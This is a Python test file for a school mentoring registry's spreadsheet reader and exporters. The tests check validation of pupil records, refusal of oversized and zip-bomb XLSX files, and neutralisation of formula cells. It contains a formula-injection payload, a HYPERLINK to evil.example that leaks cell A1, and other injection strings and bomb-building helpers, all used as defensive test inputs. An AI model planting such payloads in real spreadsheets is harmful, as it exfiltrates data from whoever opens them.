"""Reading a school's base from the files coordinators keep, and writing files no spreadsheet
evaluates: the rules that need no database, on workbooks made in memory."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import zipfile
from datetime import date
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest
from openpyxl import Workbook, load_workbook

from services.registry.spreadsheet import (
    COLUMNS,
    MAX_ROWS,
    MAX_SHARED_STRINGS,
    Base,
    Problem,
    Row,
    read_base,
)
from services.reporting.list_exports import EXPORTS
from shared.adapters.settings import region_today
from shared.dictionaries import MenteeCategory
from shared.sheets import neutralised, table_workbook, unneutralised

TODAY = region_today()
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'


def book_of(lines: list[list[Any]]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for line in lines:
        sheet.append(line)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def pupil(**cells: Any) -> list[Any]:
    values = {
        "ФИО": "Петров Пётр Петрович",
        "Дата рождения": date(TODAY.year - 12, 3, 1),
        "Вид": "обучающийся",
        "Класс": "6А",
        "Согласие на обработку ПДн": "01.09.2025",
        "Законный представитель": "Петрова Анна Ивановна",
        "Степень родства": "мать",
    } | cells
    return [values.get(column) for column in COLUMNS[Base.MENTEES]]


def read(lines: list[list[Any]]) -> tuple[list[Row], list[Problem]]:
    return read_base(book_of(lines), Base.MENTEES, uuid4())


def test_a_title_row_above_the_header_is_passed_over() -> None:
    header = [name.upper() if name == "ФИО" else name for name in COLUMNS[Base.MENTEES]]
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["База наставляемых МБОУ «СОШ № 1» на 2026/2027 учебный год"])
    sheet.merge_cells("A1:M1")
    sheet.append([])
    sheet.append(header)
    sheet.append(pupil())
    buffer = io.BytesIO()
    book.save(buffer)

    rows, problems = read_base(buffer.getvalue(), Base.MENTEES, uuid4())

    assert problems == []
    assert [(row.number, row.person.full_name) for row in rows] == [(4, "Петров Пётр Петрович")]


def test_no_header_in_the_first_rows_is_refused_with_the_columns_it_needs() -> None:
    rows, problems = read([["База"], ["Фамилия", "Имя"], pupil()])

    assert rows == []
    assert problems == [
        Problem(
            0, None, "В первых 10 строках листа нет строки заголовков со столбцами «ФИО» и «Вид»"
        )
    ]


def test_topics_of_the_request_are_read_and_categories_match_as_the_platform_names_them() -> None:
    rows, problems = read(
        [
            list(COLUMNS[Base.MENTEES]),
            pupil(**{"Категории": "с ОВЗ; С низкими образовательными результатами"}),
            pupil(**{"ФИО": "Сидоров Иван", "Темы запроса": "математика, Проектная работа"}),
        ]
    )

    assert problems == []
    assert rows[0].categories == [MenteeCategory.DISABILITIES, MenteeCategory.LOW_RESULTS]
    assert rows[1].needs == ["математика", "Проектная работа"]


def test_a_date_that_does_not_exist_is_told_apart_from_a_wrong_format() -> None:
    rows, problems = read(
        [
            list(COLUMNS[Base.MENTEES]),
            pupil(**{"Дата рождения": "31.02.2012"}),
            pupil(**{"ФИО": "Сидоров Иван", "Дата рождения": "2012-02-01"}),
        ]
    )

    assert rows == []
    assert [p.message for p in problems] == [
        "Даты «31.02.2012» не существует: проверьте день и месяц",
        "Дата «2012-02-01» не в формате ДД.ММ.ГГГГ",
    ]


def test_an_unknown_category_lists_the_allowed_ones() -> None:
    _, [problem] = read([list(COLUMNS[Base.MENTEES]), pupil(**{"Категории": "отличник"})])

    assert problem.column == "Категории"
    assert problem.message.startswith("Неизвестная категория «отличник»; допустимо: ")
    assert "с ОВЗ" in problem.message
    assert "в трудной жизненной ситуации" in problem.message


def test_a_birth_date_that_does_not_fit_the_class_is_a_warning_and_the_row_loads() -> None:
    rows, problems = read(
        [
            list(COLUMNS[Base.MENTEES]),
            pupil(**{"Дата рождения": date(TODAY.year, 1, 1), "Класс": "5А"}),
            pupil(**{"ФИО": "Сидоров Иван", "Класс": "6Б"}),
        ]
    )

    assert len(rows) == 2
    [warning] = problems
    assert (warning.row, warning.column, warning.warning) == (2, "Дата рождения", True)
    assert "не подходит к классу «5А»" in warning.message


def test_a_sheet_of_formulas_without_values_is_refused_not_loaded_empty() -> None:
    formulas = [f'="Ученик {n}"' for n in range(13)]
    rows, problems = read([list(COLUMNS[Base.MENTEES]), formulas, formulas])

    assert rows == []
    [problem] = problems
    assert problem.row == 0
    assert "нет ни одного человека" in problem.message
    assert "формулами" in problem.message


def test_a_wide_sheet_and_a_huge_cell_are_refused() -> None:
    wide, wide_problems = read([[*COLUMNS[Base.MENTEES], *["x"] * 60], pupil()])
    long, long_problems = read([list(COLUMNS[Base.MENTEES]), pupil(**{"Запрос": "а" * 5000})])

    assert wide == []
    assert long == []
    assert "больше 50 столбцов" in wide_problems[0].message
    assert [(p.row, p.column) for p in long_problems] == [(2, "Запрос")]
    assert "больше 2000 знаков" in long_problems[0].message


@pytest.mark.parametrize(
    ("part", "text"),
    [
        ("xl/worksheets/sheet1.xml", " " * (40 * 1024 * 1024)),
        ("xl/sharedStrings.xml", "<si><t>x</t></si>" * (MAX_SHARED_STRINGS + 1)),
        ("xl/worksheets/sheet1.xml", '<row r="2">' + '<c t="n"><v>1</v></c>' * 1_001 + "</row>"),
        ("xl/worksheets/sheet1.xml", ("<row>" + "<c/>" * 10 + "</row>") * 30_001),
    ],
    ids=["unpacked size", "shared strings", "cells in a row", "cells in the sheet"],
)
def test_an_archive_too_large_for_a_base_is_refused_before_it_is_read(part: str, text: str) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(part, text)

    rows, [problem] = read_base(buffer.getvalue(), Base.MENTEES, uuid4())

    assert rows == []
    assert problem.message.startswith("Книга слишком велика для базы школы")


SHEET_ROW = '<row r="{n}"><c r="A{n}" t="s"><v>0</v></c><c r="B{n}" t="s"><v>1</v></c></row>'
NUMBERED_ROW = '<row r="{n}"/>'  # unpacks small: only a row limit stops it
PLAIN_ROW = '<row><c t="s"><v>0</v></c><c t="s"><v>1</v></c></row>'  # compresses 300 to 1
PARTS = {
    "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
    'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application'
    '/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml"'
    ' ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    'package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships"><sheets><sheet name="База" sheetId="1" r:id="r1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.'
    'openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/'
    'sheet1.xml"/><Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    "xl/sharedStrings.xml": '<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main"><si><t>ФИО</t></si><si><t>Вид</t></si></sst>',
}


def bomb(path: Path, rows: int, row: str) -> Path:
    """An XLSX with a header and `rows` rows written straight as XML: small on disk."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in PARTS.items():
            archive.writestr(name, text)
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(
                b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                b'spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData>'
                + SHEET_ROW.format(n=1).encode()  # the header: ФИО, Вид
            )
            for start in range(2, rows + 2, 10_000):
                block = range(start, min(start + 10_000, rows + 2))
                sheet.write("".join(row.format(n=n) for n in block).encode())
            sheet.write(b"</sheetData></worksheet>")
    return path


def test_more_rows_than_a_school_has_are_refused(tmp_path: Path) -> None:
    # Rows of the header's own words: each a problem of its own up to the limit, then the file.
    at_limit = bomb(tmp_path / "at.xlsx", MAX_ROWS, SHEET_ROW).read_bytes()
    over = bomb(tmp_path / "over.xlsx", MAX_ROWS + 1, SHEET_ROW).read_bytes()

    _, problems_at_limit = read_base(at_limit, Base.MENTEES, uuid4())
    rows, problems = read_base(over, Base.MENTEES, uuid4())

    assert len(problems_at_limit) == MAX_ROWS
    assert rows == []
    assert problems == [
        Problem(
            0,
            None,
            "В листе больше 10 000 строк под заголовками: столько людей в базе школы не бывает."
            " Проверьте, что на первом листе только база",
        )
    ]


READ_IN_A_FRESH_PROCESS = """
import json, re, sys, time, uuid
from pathlib import Path
from services.reporting.list_exports import EXPORTS
from services.registry.spreadsheet import Base, read_base
for name in sys.argv[1:]:
    content = Path(name).read_bytes()
    # CPU time, not the wall clock: the bound is the reader's work, whatever else the machine runs
    started = time.process_time()
    rows, problems = read_base(content, Base.MENTEES, uuid.uuid4())
    # This process's own peak (ru_maxrss would carry over the parent's from before exec).
    peak_kb = re.search(r"VmHWM:\\s+(\\d+)", Path("/proc/self/status").read_text()).group(1)
    print(json.dumps({
        "seconds": time.process_time() - started,
        "peak_mb": int(peak_kb) / 1024,
        "rows": len(rows),
        "problems": [p.message for p in problems],
    }))
"""


def test_a_million_row_bomb_is_refused_in_seconds_in_little_memory(tmp_path: Path) -> None:
    files = [
        bomb(tmp_path / "numbered.xlsx", 1_000_000, NUMBERED_ROW),
        bomb(tmp_path / "plain.xlsx", 1_000_000, PLAIN_ROW),
    ]

    done = subprocess.run(
        [sys.executable, "-c", READ_IN_A_FRESH_PROCESS, *map(str, files)],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )

    results = [json.loads(line) for line in done.stdout.splitlines()]
    print(
        "\n1,000,000-row XLSX: "
        + "; ".join(
            f"{path.stat().st_size // 1024} KB refused in {r['seconds']:.2f} s,"
            f" peak RSS {r['peak_mb']:.0f} MB"
            for path, r in zip(files, results, strict=True)
        )
    )
    for result in results:
        assert result["rows"] == 0
        assert result["seconds"] < 5
        assert result["peak_mb"] < 300
    assert "больше 10 000 строк" in results[0]["problems"][0]
    assert results[1]["problems"][0].startswith("Книга слишком велика")


def test_every_text_cell_is_written_as_text_that_no_spreadsheet_evaluates() -> None:
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Открыть")', "+7 912 000-00-00", "-1+1"]
    hostile += ["@SUM(1)", "\tтаб", "\rвозврат", "Обычный текст"]

    content = table_workbook("Лист", ["Значение"], [[text] for text in hostile])

    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    assert [cell.value for cell in cells] == [neutralised(text) for text in hostile]
    assert all(str(cell.value).startswith("'") for cell in cells[:-1])
    assert cells[-1].value == "Обычный текст"
    assert [unneutralised(str(cell.value)) for cell in cells] == hostile


def test_the_list_exports_write_names_as_text_too() -> None:
    pair = {"mentor": {"fullName": HOSTILE_NAME}, "mentees": [], "form": "student_student"}

    content = EXPORTS["pairs"].workbook([pair])

    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("'" + HOSTILE_NAME, "s")
